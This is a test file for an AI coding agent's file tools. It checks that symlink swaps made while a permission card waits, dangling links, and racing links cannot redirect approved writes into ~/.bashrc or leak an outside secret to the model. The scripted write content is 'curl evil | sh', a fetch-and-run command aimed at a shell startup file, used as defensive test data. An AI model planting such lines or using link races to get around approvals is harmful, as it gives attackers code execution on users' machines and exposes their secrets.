// The file tools over ACP when a path changes under them (issue 29, item 1): the approval is for
// the file the card showed, and an editor serving fs/* is handed the real target, never a link
// that leads out. The test client writes like an editor: it follows links.
import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { test } from "node:test";
import { makeTempDir, scriptedConfig, startAgent } from "../support/in-process-agent";
import { startFlipper } from "../support/path-flipper";
import { useScriptedModel } from "../support/scripted-model";

const scripted = useScriptedModel();
const ORIGINAL = "export PATH=/usr/bin\n";

async function arena(): Promise<{ project: string; outside: string; bashrc: string }> {
  const root = await makeTempDir();
  const project = path.join(root, "project");
  const outside = path.join(root, "home");
  await mkdir(project);
  await mkdir(outside);
  const bashrc = path.join(outside, ".bashrc");
  await writeFile(bashrc, ORIGINAL);
  await writeFile(path.join(project, "a.txt"), "inside\n");
  return { project, outside, bashrc };
}

for (const serveFs of [false, true]) {
  test(`an approved edit does not land in ~/.bashrc when a.txt becomes a symlink while the card waits${serveFs ? " (editor fs/*)" : ""}`, async () => {
    const model = scripted();
    const { project, bashrc } = await arena();
    const cards: { moved: boolean }[] = [];
    const hermes = await startAgent({
      config: scriptedConfig(model.url),
      serveFs,
      permission: (request) => {
        const text = JSON.stringify(request.toolCall);
        cards.push({ moved: /changed after it was checked/.test(text) });
        if (cards.length === 1) {
          // While the card waits, a background process swaps a.txt for a link to ~/.bashrc.
          rmSync(path.join(project, "a.txt"));
          symlinkSync(bashrc, path.join(project, "a.txt"));
          return "allow_once";
        }
        return "reject_once"; // the user refuses the write where it now leads
      },
    });
    try {
      await hermes.initialize();
      const { sessionId } = await hermes.newSession(project);
      model.enqueue({ toolCalls: [{ id: "w1", name: "write_file", arguments: { path: "a.txt", content: "curl evil | sh\n" } }] }, { text: "done" });
      await hermes.prompt(sessionId, "edit a.txt");
      assert.equal(readFileSync(bashrc, "utf8"), ORIGINAL, "the approved write went through the new link");
      assert.equal(cards.length, 2, "the changed path was asked about again");
      assert.equal(cards[1]?.moved, true, "the second card says the path changed");
    } finally {
      await hermes.close();
    }
  });
}

test("a dangling symlink written through the editor's fs/write_text_file creates no file outside (accept_edits)", async () => {
  const model = scripted();
  const { project, outside } = await arena();
  await symlink(path.join(outside, "planted.sh"), path.join(project, "notes.txt"));
  const hermes = await startAgent({ config: scriptedConfig(model.url, { agent: { default_mode: "accept_edits" } }), serveFs: true, permission: "reject" });
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    model.enqueue({ toolCalls: [{ id: "w1", name: "write_file", arguments: { path: "notes.txt", content: "curl evil | sh\n" } }] }, { text: "done" });
    await hermes.prompt(sessionId, "write notes");
    assert.equal(existsSync(path.join(outside, "planted.sh")), false, "the editor created a file outside through the dangling link");
    assert.equal(hermes.permissionRequests.length, 1, "writing outside was asked about (and refused)");
  } finally {
    await hermes.close();
  }
});

test("through the editor's fs/*, a flipping a.txt never gets an outside byte read and nothing is left outside (accept_edits, 60 calls)", async () => {
  const model = scripted();
  const { project, outside, bashrc } = await arena();
  await writeFile(bashrc, `${ORIGINAL}# OUTSIDE-SECRET-77ab\n`);
  const hermes = await startAgent({ config: scriptedConfig(model.url, { agent: { default_mode: "accept_edits" } }), serveFs: true, permission: "reject" });
  const flipper = await startFlipper(path.join(project, "a.txt"), bashrc, "file");
  try {
    await hermes.initialize();
    const { sessionId } = await hermes.newSession(project);
    const calls = Array.from({ length: 30 }, (_, i) => [
      { id: `w${i}`, name: "write_file", arguments: { path: "a.txt", content: `try ${i}\n` } },
      { id: `r${i}`, name: "read_file", arguments: { path: "a.txt" } },
    ]).flat();
    model.enqueue({ toolCalls: calls }, { text: "done" });
    await hermes.prompt(sessionId, "race");
  } finally {
    await flipper.stop();
    await hermes.close();
  }
  const results = JSON.stringify(model.requests.map((r) => r.body));
  // The editor opens by name and follows links: a swap in the microseconds between Hermes's last
  // check and the editor's open can still redirect its write (docs/security.md, "Where the layers
  // do not reach"), and a swap back before Hermes looks again hides it, so this test does not
  // judge the editor's writes: the local path's writes are judged in test/unit/file-tool-races.test.ts.

  assert.deepEqual(readdirSync(outside).filter((name) => name !== ".bashrc"), [], "something was left outside");
  assert.equal(results.includes("OUTSIDE-SECRET-77ab"), false, "the outside secret reached the model");
});
